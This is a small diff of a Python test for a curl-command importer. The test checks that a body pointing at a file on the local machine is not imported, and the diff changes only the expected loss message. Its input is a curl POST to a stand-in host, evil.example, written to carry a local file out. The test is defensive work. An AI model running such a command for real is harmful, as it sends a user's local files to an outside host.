@@ -101,7 +101,7 @@ def test_body_that_is_a_file_of_this_machine_does_not_come_in(option: str) -> No
     imported = import_bytes(f"curl -X POST http://evil.example/ {option}".encode(), format_name="curl")
     body = imported.tree.requests[0].body
     assert (body.content.path, body.content.size) == (None, 0)
-    assert any("is taken out" in loss.what for loss in imported.losses)
+    assert any("is not in the import" in loss.what for loss in imported.losses)
 
 
 def test_forms_of_commands_send_no_file_of_this_machine() -> None:
